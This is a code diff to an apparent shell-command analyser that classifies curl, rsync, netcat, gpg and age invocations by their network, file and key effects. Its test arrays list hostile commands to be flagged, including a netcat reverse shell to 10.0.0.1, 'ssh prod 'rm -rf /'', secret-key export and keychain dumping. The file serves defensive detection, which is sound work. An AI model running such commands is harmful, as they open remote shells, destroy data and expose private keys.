@@ -1,6 +1,6 @@
 /** Programs that reach other machines: curl, wget, ssh, scp, rsync, nc and their kin. */
 import type { Effect } from '../../values.ts';
-import { code, connect, connectTo, destroys, form, leave, textOf, touch, touchAt, touchTree, word } from '../effects.ts';
+import { code, connect, connectTo, destroys, form, leave, textOf, touch, touchAt, touchTree, unknown, word } from '../effects.ts';
 import { has, type Options, valuesOf } from '../options.ts';
 import type { Argument, Call, Program, Reading } from '../program.ts';
 import { row, type Shape } from './row.ts';
@@ -21,8 +21,17 @@ function behind({ value, place }: Argument, mark: RegExp, call: Call): Effect[] 
   const head = mark.exec(text)?.[0];
   if (head === undefined) return value.kind === 'unknown' && text === '' ? touch('read', { value, place }, call) : [];
   const rest = text.slice(head.length).replace(/;.*$/s, '');
-  const file: Argument = { value: value.kind === 'unknown' ? { ...value, prefix: rest } : { ...value, text: rest }, place };
-  return rest === '-' ? [] : touch('read', file, call);
+  if (value.kind === 'unknown') return touch('read', { value: { ...value, prefix: rest }, place }, call);
+  return rest.split(',').flatMap(one => (one === '-' ? [] : touch('read', { value: { ...value, text: one }, place }, call)));
+}
+
+/** `-T '{a,b}'` and `-T 'a[1-9]'` name files by a pattern of curl's own. */
+function uploads(found: Options, call: Call): Effect[] {
+  return valuesOf(found, 'T').flatMap(one => {
+    const text = textOf(one);
+    if (text === '-' || text === '.') return [];
+    return touch('read', text !== undefined && /[{[]/.test(text) ? unknown('a pattern of curl’s own', one.place) : one, call);
+  });
 }
 
 function curl(found: Options, call: Call): Partial<Reading> {
@@ -35,7 +44,7 @@ function curl(found: Options, call: Call): Partial<Reading> {
     : [];
   const writes = valuesOf(found, 'w').some(one => /%output\{/.test(textOf(one) ?? '%output{')) ? touchAt('write', '/', call) : [];
   const config = has(found, 'K') ? 'its options stand in a file' : undefined;
-  return { effects: [...saves, ...socket, ...elsewhere, ...writes, ...sent(found, call)], opaque: config };
+  return { effects: [...saves, ...socket, ...elsewhere, ...writes, ...sent(found, call), ...uploads(found, call)], opaque: config };
 }
 
 function wget(found: Options, call: Call): Partial<Reading> {
@@ -115,7 +124,8 @@ function rsync(found: Options, call: Call): Partial<Reading> {
     .filter(one => textOf(one) !== 'ssh')
     .map(one => code('sideways', 'an option of rsync runs a program', one.place));
   const ends = found.operands.map((one, at) => endOf(one, { call, port: undefined, last: at === found.operands.length - 1 && at > 0 }));
-  return { effects: [...says, ...shell, ...ends.flat()] };
+  const serves = has(found, 'daemon', 'server') ? [code('unknown', 'serves by rules that stand in a file', call.place)] : [];
+  return { effects: [...says, ...shell, ...serves, ...ends.flat()] };
 }
 
 function netcat(found: Options, call: Call): Partial<Reading> {
@@ -124,21 +134,24 @@ function netcat(found: Options, call: Call): Partial<Reading> {
   if (has(found, 'l'))
     return { effects: [form({ rank: 'ask', id: 'listen', impact: 'network', reason: 'waits for connections' }, call.place)] };
   const number = Number(textOf(port));
+  const through = valuesOf(found, 'x').map(one => connect(undefined, undefined, one.place));
   return {
     effects:
       host === undefined
-        ? []
-        : [connect(textOf(host)?.toLowerCase(), Number.isInteger(number) && number > 0 ? number : undefined, host.place)],
+        ? through
+        : [...through, connect(textOf(host)?.toLowerCase(), Number.isInteger(number) && number > 0 ? number : undefined, host.place)],
   };
 }
 
 const asks = (_: Options, call: Call): Partial<Reading> => ({ effects: [connect(undefined, undefined, call.place)] });
 
 const curlOptions = `o|output=write O|remote-name remote-name-all J|remote-header-name output-dir=write d|data= data-raw= data-binary= data-ascii= data-urlencode= json= url-query= F|form= form-string=
-  T|upload-file=read K|config= u|user= U|proxy-user= x|proxy= preproxy= proxy1.0= socks4= socks4a= socks5= socks5-hostname= noproxy= H|header= proxy-header= b|cookie= c|cookie-jar=write D|dump-header=write
+  T|upload-file= K|config= u|user= U|proxy-user= x|proxy= preproxy= proxy1.0= socks4= socks4a= socks5= socks5-hostname= noproxy= H|header= proxy-header= b|cookie= c|cookie-jar=write D|dump-header=write
   e|referer= A|user-agent= X|request= request-target= r|range= m|max-time= connect-timeout= retry= retry-delay= retry-max-time= E|cert=read cert-type= key=read key-type= pass= cacert=read capath=read pinnedpubkey= ciphers=
   w|write-out= netrc-file=read unix-socket= abstract-unix-socket= resolve= connect-to= interface= dns-servers= doh-url=url stderr=write trace=write trace-ascii=write libcurl=write hsts=write alt-svc=write etag-save=write
   etag-compare=read engine=program url=url Y|speed-limit= y|speed-time= z|time-cond= C|continue-at= limit-rate= max-filesize= max-redirs= proto= proto-default= proto-redir= parallel-max= variable= expand-variable= expand-url=url
+  proxy-cacert=read proxy-capath=read proxy-cert=read proxy-key=read proxy-pass= proxy-ciphers= proxy-service-name= proxy-tlsuser= proxy-tlspassword= tlsuser= tlspassword= mail-from= mail-rcpt= mail-auth= login-options= sasl-authzid= service-name= delegation= krb= dns-interface= dns-ipv4-addr= dns-ipv6-addr=
+  egd-file=read random-file=read curves= tls13-ciphers= proxy-tls13-ciphers= ftp-account= ftp-alternative-to-user= ftp-method= ftp-ssl-ccc-mode= happy-eyeballs= haproxy-clientip= hostpubmd5= hostpubsha256= pubkey=read socks5-gssapi-service= trace-config= ip-tos= vlan-priority= ssl-sessions=write ech= tftp-blksize= retry-all-errors retry-connrefused path-as-is
   Q|quote= P|ftp-port= t|telnet-option= local-port= keepalive-time= aws-sigv4= oauth2-bearer= cert-status tls-max= crlfile=read rate= create-file-mode= expect100-timeout= happy-eyeballs-timeout-ms= ipfs-gateway=url
   s|silent S|show-error f|fail fail-with-body L|location location-trusted k|insecure v|verbose i|include I|head g|globoff G|get n|netrc N|no-buffer Z|parallel q|disable compressed progress-bar no-progress-meter http1.1 http2 4|ipv4 6|ipv6 create-dirs`;
 
@@ -198,7 +211,7 @@ const shaped: readonly Shape[] = [
     style: 'first',
     more: ssh,
     flags: ["ssh prod 'rm -rf /'", 'ssh -o ProxyCommand=./x host', 'ssh -p 2222 u@x.example', 'ssh -V x', 'ssh -F ./config host'],
-    quiet: [],
+    quiet: ['ssh -V'],
   },
   {
     names: 'scp',
@@ -218,7 +231,7 @@ const shaped: readonly Shape[] = [
   {
     names: 'rsync',
     options:
-      'e|rsh= rsync-path=program files-from=read include-from=read exclude-from=read password-file=read log-file=write write-batch=write read-batch=read only-write-batch=write backup-dir=write temp-dir=write T= partial-dir= compare-dest=read copy-dest=read link-dest=read f|filter= exclude= include= out-format= info= debug= bwlimit= timeout= contimeout= max-size= min-size= chmod= chown= port= sockopts= B|block-size= M|remote-option= suffix= iconv= modify-window= checksum-choice= compress-choice= del a r v z n|dry-run P h i u',
+      'e|rsh= rsync-path=program files-from=read include-from=read exclude-from=read password-file=read log-file=write write-batch=write read-batch=read only-write-batch=write backup-dir=write T|temp-dir=write partial-dir=write daemon server config=program address= compare-dest=read copy-dest=read link-dest=read f|filter= exclude= include= out-format= info= debug= bwlimit= timeout= contimeout= max-size= min-size= chmod= chown= port= sockopts= B|block-size= M|remote-option= suffix= iconv= modify-window= checksum-choice= compress-choice= del a r v z n|dry-run P h i u',
     more: rsync,
     flags: [
       'rsync -a --delete empty/ src/',
@@ -228,16 +241,27 @@ const shaped: readonly Shape[] = [
       'rsync -a src/ ~/backup/',
       'rsync --rsh=./x a b:c',
       'rsync -a --remove-source-files a b',
+      'rsync --daemon --config=r.conf',
+      'rsync -a -T /root/t a b',
     ],
     quiet: ['rsync -a src/ dist/', 'rsync -av --exclude node_modules src/ dist/'],
   },
   {
     names: 'nc ncat netcat',
     options:
-      'e=program c=program sh-exec=program exec=program lua-exec=program p= s= w= q= i= x= X= I= O= T= P= m= o=write U l u v n z k 4 6',
+      'e=program c=program sh-exec=program exec=program lua-exec=program p= s= w= q= i= x|proxy= X|proxy-type= I= O= T= P= m= o|output=write hex-dump=write V= M= proxy-auth= proxy-dns= source= source-port= ssl-cert=read ssl-key=read ssl-trustfile=read allow= allowfile=read deny= denyfile=read U|unixsock l|listen u|udp v n z k|keep-open 4 6 d N b t r C h D S F ssl broker chat send-only recv-only no-shutdown',
     more: netcat,
-    flags: ['nc x.example 9', 'nc -e /bin/sh 10.0.0.1 4242', 'nc -U /run/x.sock', 'nc -l 4444'],
-    quiet: ['nc -z localhost 3000'],
+    flags: [
+      'nc x.example 9',
+      'nc -e /bin/sh 10.0.0.1 4242',
+      'nc -U /run/x.sock',
+      'nc -l 4444',
+      'nc -x y.example:1080 localhost 80',
+      'ncat --listen -k 4444',
+      'nc -lvnp 4444',
+      'ncat --sh-exec id localhost 1',
+    ],
+    quiet: ['nc -z localhost 3000', 'nc -zvw1 127.0.0.1 6379', "printf 'PING\\r\\n' | nc -q1 localhost 6379"],
   },
   {
     names: 'socat websocat',
@@ -288,10 +312,37 @@ const shaped: readonly Shape[] = [
     quiet: [],
   },
   {
-    names: 'ssh-add ssh-agent gpg gpg2 gpg-agent gpg-connect-agent pass secret-tool keyctl security op bw vault age sops',
-    forms: [{ on: '', rank: 'ask', id: 'keys', impact: 'system', reason: 'uses or shows keys and passwords' }],
-    flags: ['ssh-add -L', 'gpg --export-secret-keys', 'pass show x'],
-    quiet: [],
+    names:
+      'ssh-add ssh-agent gpg-agent gpg-connect-agent gpgconf gpgsm dirmngr pass gopass secret-tool keyctl security op bw vault age-plugin-yubikey sops certutil pk12util keytool ykman pinentry kinit klist kdestroy chezmoi',
+    free: true,
+    more: keys,
+    flags: ['ssh-add -L', 'pass show x', 'security dump-keychain', 'ssh-agent bash', 'vault kv get x'],
+    quiet: ['ssh-add --help', 'vault --version'],
+  },
+  {
+    names: 'gpg gpg2 gpgv',
+    options:
+      'o|output=write verify dearmor enarmor list-packets print-md print-mds version h|help dump-options list-config a|armor v|verbose q|quiet batch yes no-tty status-fd= logger-fd= keyring=read no-default-keyring homedir=read options=program r|recipient= u|local-user= status-file=write logger-file=write passphrase-file=read trust-model= photo-viewer=program agent-program=program dirmngr-program=program keyserver=',
+    operands: 'read',
+    more: gpg,
+    flags: [
+      'gpg --export-secret-keys',
+      'gpg -d secret.gpg',
+      'gpg --recv-keys ABCD',
+      'gpg --import k.asc',
+      'gpg --dearmor -o ~/x k.asc',
+      'gpg --verify --photo-viewer ./x a.sig',
+    ],
+    quiet: ['gpg --version', 'gpg --verify file.sig file.tar.gz', 'gpg --dearmor -o key.gpg key.asc'],
+  },
+  {
+    names: 'age rage age-keygen rage-keygen',
+    options:
+      'e|encrypt d|decrypt p|passphrase a|armor r|recipient= R|recipients-file=read i|identity=read o|output=write j= y version h|help',
+    operands: 'read',
+    more: age,
+    flags: ['age -d -i ~/.age/key a.age', 'age -d a.age', 'age -p a', 'age-keygen -o ~/key'],
+    quiet: ['age -r age1qqq -o a.age a.txt', 'age --version', 'age-keygen -o test-key.txt'],
   },
   {
     names: 'ssh-keygen',
@@ -301,6 +352,37 @@ const shaped: readonly Shape[] = [
     quiet: ["ssh-keygen -t ed25519 -N '' -f deploy_key_test"],
   },
 ];
+
+const usesKeys = (call: Call): Effect =>
+  form({ rank: 'ask', id: 'keys', impact: 'system', reason: 'uses or shows keys and passwords' }, call.place);
+
+function keys(_: Options, call: Call): Partial<Reading> {
+  const says = call.arguments.length === 1 && /^(?:--(?:version|help)|-h|version)$/.test(textOf(call.arguments[0]) ?? '');
+  return says ? {} : { effects: [usesKeys(call)] };
+}
+
+/** What needs no key of the person's: a signature by a public one, and the shape of a file. */
+function gpg(found: Options, call: Call): Partial<Reading> {
+  const tame = has(
+    found,
+    'verify',
+    'dearmor',
+    'enarmor',
+    'list-packets',
+    'print-md',
+    'print-mds',
+    'version',
+    'h',
+    'dump-options',
+    'list-config',
+  );
+  return tame && found.options.every(one => one.known) ? {} : { effects: [usesKeys(call)] };
+}
+
+/** To lock something takes a public half; to open it a key. */
+function age(found: Options, call: Call): Partial<Reading> {
+  return has(found, 'd', 'p', 'i', 'j', 'y') || found.options.some(one => !one.known) ? { effects: [usesKeys(call)] } : {};
+}
 
 /** Every call reaches the forge; some take away or publish. */
 function forge(found: Options, call: Call): Partial<Reading> {
